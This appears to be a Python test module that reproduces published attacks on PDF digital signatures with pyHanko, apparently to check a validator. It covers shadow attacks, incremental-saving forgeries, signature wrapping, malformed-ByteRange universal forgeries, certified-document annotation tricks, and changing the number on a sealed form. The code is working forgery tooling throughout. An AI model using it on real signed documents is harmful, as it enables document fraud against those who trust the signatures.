"""The published attacks on signed PDFs, made here from a paper of our own; bytes in, bytes out.

Shadow attacks: Mainka, Mladenov, Rohlmann (NDSS 2021). Incremental saving, signature wrapping, universal forgery:
Mladenov and others (CCS 2019). Attacks on certified documents: Rohlmann and others (S&P 2021).
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FORGED = b"1 0 0 RG 50 50 400 400 re S"


def appended(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One more revision behind a file."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def with_hidden_content(pdf: bytes) -> bytes:
    """What an insider prepares before anybody signs: a second content stream that no page shows yet."""

    def hide(writer: IncrementalPdfFileWriter) -> None:
        hidden = writer.add_object(generic.StreamObject(stream_data=FORGED))
        writer.root[pdf_name("/PieceInfo")] = generic.DictionaryObject({pdf_name("/Hidden"): hidden})
        writer.update_root()

    return appended(pdf, hide)


def with_cover(pdf: bytes) -> bytes:
    """An insider lays an image over the text before anybody signs."""

    def cover(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        over = generic.StreamObject(stream_data=b"1 1 1 rg 0 0 600 850 re f")
        page[pdf_name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(over)])
        writer.update_container(page)

    return appended(pdf, cover)


def hide(signed: bytes) -> bytes:
    """Shadow, hide: the cover is taken away after signing, by leaving out its stream."""

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = page["/Contents"][0]
        writer.update_container(page)

    return appended(signed, uncover)


def replace(signed: bytes) -> bytes:
    """Shadow, replace: what a font means is exchanged after signing, so the same text reads otherwise."""

    def exchange(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        font = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/ZapfDingbats"),
            }
        )
        fonts = page["/Resources"]["/Font"]
        for name in list(fonts):
            fonts[name] = writer.add_object(font)
        writer.update_container(fonts)

    return appended(signed, exchange)


def hide_and_replace(signed: bytes) -> bytes:
    """Shadow, hide and replace: the page points to the content hidden before the signature."""

    def show(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = writer.root["/PieceInfo"].raw_get("/Hidden")
        writer.update_container(page)

    return appended(signed, show)


def incremental_saving(signed: bytes) -> bytes:
    """A new revision with other content."""

    def rewrite(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED))
        writer.update_container(page)

    return appended(signed, rewrite)


def incremental_saving_without_table(signed: bytes) -> bytes:
    """The variant that adds objects without a cross-reference table, in the hope of a forgiving reader."""
    number = re.search(rb"/Contents (\d+) 0 R", signed)
    assert number is not None
    body = b"\n%s 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number[1], len(FORGED), FORGED)
    return signed + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def _last_range(pdf: bytes) -> re.Match[bytes]:
    return list(re.finditer(rb"/ByteRange \[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))[-1]


def ranged(pdf: bytes, inner: bytes) -> bytes:
    """The last signature's ByteRange written otherwise, as long as before."""
    found = _last_range(pdf)
    room = len(found[0])
    return pdf[: found.start()] + inner[:room].ljust(room) + pdf[found.end() :]


def wrapped(signed: bytes) -> bytes:
    """Signature wrapping: the signed second part is moved back, foreign bytes stand in the gap."""
    found = _last_range(signed)
    first, gap, rest = int(found[2]), int(found[3]), int(found[4])
    foreign = b"\n9999 0 obj\n<</Length 27>>\nstream\n" + FORGED + b"\nendstream\nendobj\n"
    moved = signed[:gap] + foreign + signed[gap : gap + rest]
    return ranged(moved, b"/ByteRange [0 %d %d %d]" % (first, gap + len(foreign), rest))


def wrapped_with_own_table(signed: bytes) -> bytes:
    """Signature wrapping as published: what is signed stays byte for byte, and is not what a reader shows.

    The signed second part moves back; in the gap stands another end of the signature's dictionary, with a ByteRange
    that follows the move, and where the signed "startxref" points to a cross-reference of the attacker's.
    """
    found = _last_range(signed)
    first, gap, rest = int(found[2]), int(found[3]), int(found[4])
    table = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    original = signed[table:]
    number = int(original.split()[0])
    packed = zlib.decompress(original.split(b"stream\n", 1)[1])
    index = [int(one) for one in re.search(rb"/Index \[([ \d]+)\]", original)[1].split()]  # type: ignore[index]
    numbers = [start + one for start, many in zip(index[::2], index[1::2], strict=True) for one in range(many)]
    rows = {one: packed[11 * place :][:11] for place, one in enumerate(numbers)}
    previous = re.search(rb"/Prev \d+", original)[0]  # type: ignore[index]
    (shown,) = re.search(rb"/Contents (\d+) 0 R", signed).groups()  # type: ignore[union-attr]
    forged = b"%s 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (shown, len(FORGED), FORGED)

    def cross_reference(at: int) -> bytes:
        entries = rows | {int(shown): b"\x01" + at.to_bytes(8, "big") + bytes(2)}
        content = b"".join(entries[one] for one in sorted(entries))
        each = b" ".join(b"%d 1" % one for one in sorted(entries))
        head = b"%d 0 obj\n<</Type/XRef/W[1 8 2]/Size %d/Root 2 0 R/Info 40 0 R%s/Index[%s]/Length %d>>\nstream\n" % (
            number, number + 1, previous, each, len(content),
        )  # fmt: skip
        return head + content + b"\nendstream\nendobj\n"

    end = signed[gap : gap + rest].split(b"endobj", 1)[0]
    after = table + len(cross_reference(0))
    length = after + len(forged) - gap
    ours = (
        re.sub(rb"/ByteRange \[[^]]*\] *", b"/ByteRange [0 %d %d %d]" % (first, gap + length, rest), end) + b"endobj\n"
    )
    blob = ours.ljust(table - gap) + cross_reference(after) + forged
    assert len(blob) == length
    return signed[:gap] + blob + signed[gap:]


def _contents(pdf: bytes, inner: bytes) -> bytes:
    start = pdf.rindex(b"/Contents <") + len(b"/Contents ")
    end = pdf.index(b">", start) + 1
    return pdf[:start] + inner.ljust(end - start) + pdf[end:]


FORGERIES: dict[str, Callable[[bytes], bytes]] = {
    "no ByteRange": lambda pdf: ranged(pdf, b""),
    "null ByteRange": lambda pdf: ranged(pdf, b"/ByteRange null"),
    "empty ByteRange": lambda pdf: ranged(pdf, b"/ByteRange []"),
    "zero ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 0 0 0]"),
    "negative ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 -1 -1 9]"),
    "odd ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 10 20]"),
    "overlapping ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 900 0 900]"),
    "ByteRange beyond the end": lambda pdf: ranged(pdf, b"/ByteRange [0 10 20 9999999]"),
    "words for ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [/a /b (c) <d>]"),
    "null Contents": lambda pdf: _contents(pdf, b"null"),
    "empty Contents": lambda pdf: _contents(pdf, b"<>"),
    "zero Contents": lambda pdf: _contents(pdf, b"<00>"),
    "all-zero Contents": lambda pdf: _contents(pdf, b"<" + b"00" * 4000 + b">"),
}
"""Universal signature forgery: what a signature needs is missing, empty or odd."""


def evil_annotation(certified: bytes) -> bytes:
    """A certified paper (DocMDP 2) gets an annotation that looks like content."""

    def annotate(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Stamp"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): generic.TextStringObject("Được miễn phí"),
            }
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page)

    return appended(certified, annotate)


def _field(writer: IncrementalPdfFileWriter, name: str) -> generic.DictionaryObject:
    places = (one.get_object() for one in writer.root["/AcroForm"]["/Fields"])
    found: generic.DictionaryObject = next(one for one in places if one.get("/T") == name)
    return found


def _shown(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    drawing = generic.StreamObject(stream_data=FORGED)
    drawing[pdf_name("/Type")], drawing[pdf_name("/Subtype")] = pdf_name("/XObject"), pdf_name("/Form")
    drawing[pdf_name("/BBox")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 500)))
    return generic.DictionaryObject({pdf_name("/N"): writer.add_object(drawing)})


def other_number(sealed: bytes) -> bytes:
    """The number is filled in anew after the seal has locked it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        place = _field(writer, "number")
        place[pdf_name("/V")] = generic.TextStringObject("999/GP-UBND")
        writer.update_container(place)

    return appended(sealed, change)


def other_appearance(sealed: bytes) -> bytes:
    """The number's value stays, what is shown of it does not."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        place = _field(writer, "number")
        place[pdf_name("/AP")] = _shown(writer)
        writer.update_container(place)

    return appended(sealed, change)


def other_place(sealed: bytes) -> bytes:
    """The number is moved over other words of the paper."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        place = _field(writer, "number")
        place[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (100, 300, 500, 400)))
        writer.update_container(place)

    return appended(sealed, change)


def one_more_field(signed: bytes) -> bytes:
    """A new text field whose appearance covers the paper."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        place = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Tx"),
                pdf_name("/T"): generic.TextStringObject("more"),
                pdf_name("/V"): generic.TextStringObject("Được miễn phí"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (50, 50, 550, 750))),
                pdf_name("/AP"): _shown(writer),
            }
        )
        reference = writer.add_object(place)
        page["/Annots"].append(reference)
        writer.root["/AcroForm"]["/Fields"].append(reference)
        writer.update_container(page)
        writer.update_container(writer.root["/AcroForm"])

    return appended(signed, change)


def other_answers(archived: bytes, answer: bytes) -> bytes:
    """Every answer about revocation a file carries is exchanged for another one, after the archive time stamp."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        store = writer.root["/DSS"]
        other = writer.add_object(generic.StreamObject(stream_data=answer))
        store[pdf_name("/OCSPs")] = generic.ArrayObject([other])
        for name in list(store["/VRI"]):
            store["/VRI"][name][pdf_name("/OCSP")] = generic.ArrayObject([other])
            writer.update_container(store["/VRI"][name])
        writer.update_container(store)

    return appended(archived, change)


def turned(pdf: bytes, at: int) -> bytes:
    """One bit of one byte the other way."""
    return pdf[:at] + bytes([pdf[at] ^ 0x01]) + pdf[at + 1 :]


def places(pdf: bytes, many: int) -> list[int]:
    """So many places spread evenly over what the last signature or archive time stamp covers."""
    found = _last_range(pdf)
    gap, after = int(found[2]), int(found[3])
    covered = len(pdf) - (after - gap)
    step = covered / many
    flat = (int((number + 0.5) * step) for number in range(many))
    return [at if at < gap else at + after - gap for at in flat]
